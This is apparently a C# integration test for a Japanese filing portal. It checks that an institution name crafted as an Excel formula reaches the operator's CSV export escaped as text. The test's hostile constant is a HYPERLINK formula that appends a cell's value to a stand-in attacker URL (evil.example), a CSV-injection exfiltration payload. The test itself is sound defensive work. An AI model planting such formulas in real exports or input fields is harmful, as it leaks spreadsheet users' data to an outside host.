using System.Text;
using Microsoft.EntityFrameworkCore;
using OnshiPortal.Features.Filings;
using OnshiPortal.Tests.Support;

namespace OnshiPortal.Tests.Integration;

/// <summary>
/// Issue 14, item 10: a name that starts like a formula reaches every CSV meant for Excel as text (a leading
/// <c>'</c>), never as a formula. The dashboard's CSV: DashboardTests; the master's export and import:
/// Unit/InstitutionCsvTests.
/// </summary>
public abstract class CsvInjectionTests : DataTest
{
    private const string Email = "clinic@example.jp";

    private const string Hostile = "=HYPERLINK(\"http://evil.example/\"&A1,\"詳細\")";

    [Fact]
    public async Task A_self_registered_name_that_looks_like_a_formula_reaches_the_review_csv_as_text()
    {
        await using var app = await StartAppAsync();
        var (records, institution) = await app.ActivatedInstitutionAsync(Email);
        var timed = app.WithClock(new ManualClock(FilingScenario.March2023));
        var session = timed.Session();
        await session.LogInAsync(Email, ActivationScenario.NewPassword, "/mypage");
        var receipt = await session.FileSuccessionAsync(FilingScenario.NewCodeFor(institution, records).Value);
        await using (var db = app.Database.CreateContext())
        {
            // A self-registrant's own name reaches the filing as they typed it.
            await db.Set<Filing>().Where(f => f.ReceiptNumber == receipt).ExecuteUpdateAsync(s => s.SetProperty(f => f.InstitutionName, Hostile));
        }

        var (operatorEmail, operatorPassword) = await app.AddOperatorAsync();
        var operatorSession = timed.Session();
        await operatorSession.LogInAsync(operatorEmail, operatorPassword, "/operator");
        foreach (var (encoding, text) in new (string, Func<byte[], string>)[]
        {
            ("utf8", b => Encoding.UTF8.GetString(b.AsSpan(3))),
            ("sjis", b => Encoding.GetEncoding(932).GetString(b)),
        })
        {
            Encoding.RegisterProvider(CodePagesEncodingProvider.Instance);
            var csv = text(await operatorSession.Client.GetByteArrayAsync($"/operator/filings/succession?handler=Csv&encoding={encoding}"));
            var line = Assert.Single(csv.Split("\r\n"), l => l.StartsWith(receipt, StringComparison.Ordinal));
            Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"詳細\"\")\",", line, StringComparison.Ordinal);
            Assert.DoesNotContain(",\"=", line, StringComparison.Ordinal);
        }
    }
}

public sealed class CsvInjectionTestsOnSqlite : CsvInjectionTests
{
    protected override TestDatabase CreateDatabase() => new SqliteTestDatabase();
}

public sealed class CsvInjectionTestsOnPostgres : CsvInjectionTests
{
    protected override TestDatabase CreateDatabase() => new PostgresTestDatabase();
}
